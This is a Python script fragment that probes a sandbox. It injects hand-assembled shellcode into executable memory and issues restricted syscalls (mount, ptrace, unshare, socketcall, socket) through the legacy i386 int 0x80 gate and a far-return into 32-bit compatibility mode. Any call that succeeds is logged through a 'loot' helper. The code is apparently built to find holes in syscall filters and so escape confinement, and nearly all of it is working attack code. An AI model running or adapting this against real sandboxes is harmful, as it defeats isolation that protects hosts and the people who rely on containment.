# int 0x80 takes the numbers of i386: there 102 is socketcall, 21 mount, 26 ptrace, 310 unshare.
# prelude

CALLS = {"getpid": (20, 0), "socketcall": (102, 1), "mount": (21, 0), "ptrace": (26, 0), "unshare": (310, 0x10000000), "socket": (359, 1)}


def code(data):
    pages = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    pages[: len(data)] = data
    address = ctypes.addressof(ctypes.c_char.from_buffer(pages))
    return pages, address


def old_way(number, argument):
    # push rbx; mov eax, number; mov ebx, argument; xor ecx, ecx; xor edx, edx; int 0x80; movsxd rax, eax; pop rbx; ret
    data = b"\x53\xb8" + number.to_bytes(4, "little") + b"\xbb" + argument.to_bytes(4, "little")
    data += b"\x31\xc9\x31\xd2\xcd\x80\x48\x63\xc0\x5b\xc3"
    pages, address = code(data)
    return ctypes.CFUNCTYPE(ctypes.c_long)(address)()


def compatibility_mode(number, argument):
    # A far return into the 32-bit code segment, int 0x80 there, a far return back.
    inside = b"\xb8" + number.to_bytes(4, "little") + b"\xbb" + argument.to_bytes(4, "little") + b"\x31\xc9\x31\xd2\xcd\x80\xcb"
    pages, low = code(inside)
    if low >> 32:
        return -999
    # push rbx; mov r8, rsp; mov rsp, stack; push return segment and place (4 bytes each); push 0x23; push low; retfq
    stack = low + 3072
    outer = b"\x53\x55\x49\x89\xe0\x48\xc7\xc4" + stack.to_bytes(4, "little")
    outer_place = low + 1024
    body = bytearray(outer)
    body += b"\xc7\x44\x24\xf8\x00\x00\x00\x00"  # mov dword [rsp-8], place (filled in)
    fill = len(body) - 4
    body += b"\xc7\x44\x24\xfc\x33\x00\x00\x00"  # mov dword [rsp-4], 0x33
    body += b"\x48\x83\xec\x08"  # sub rsp, 8
    body += b"\x6a\x23\x68" + low.to_bytes(4, "little") + b"\x48\xcb"  # push 0x23; push low; retfq
    back = len(body)
    body += b"\x4c\x89\xc4\x5d\x5b\x48\x63\xc0\xc3"  # mov rsp, r8; pop rbp; pop rbx; movsxd rax, eax; ret
    body[fill : fill + 4] = (outer_place + back).to_bytes(4, "little")
    pages[1024 : 1024 + len(body)] = bytes(body)
    return ctypes.CFUNCTYPE(ctypes.c_long)(outer_place)()


if FIRST:
    for way in (old_way, compatibility_mode):
        for name, (number, argument) in CALLS.items():
            print("TRIED", way.__name__, flush=True)
            ended = in_child(lambda: 1 if way(number, argument) >= 0 else 2)
            print(name, ended)
            if ended in (0, 1):
                loot(f"{way.__name__} {name}: {ended}")
